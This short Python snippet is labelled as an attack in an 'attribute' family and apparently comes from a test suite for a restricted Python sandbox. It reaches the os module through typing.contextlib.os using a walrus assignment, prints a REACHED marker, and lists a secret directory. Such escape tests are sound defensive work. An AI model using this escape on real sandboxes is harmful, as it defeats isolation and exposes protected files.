# attack: typing imported contextlib, and contextlib imported os: a walrus takes the module's path away
# family: attribute
import typing
print("REACHED", (t := typing).contextlib.os.getpid())
os = t.contextlib.os
print(os.listdir("$SECRET_DIR"))
